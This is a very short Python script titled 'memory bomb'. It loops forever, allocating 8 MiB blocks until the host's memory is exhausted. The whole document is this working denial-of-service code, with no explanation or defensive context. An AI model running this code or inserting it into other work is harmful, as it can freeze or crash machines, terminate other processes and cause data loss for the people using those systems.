# memory bomb in Python
blocks = []
while True:
    blocks.append(bytearray(8 << 20))
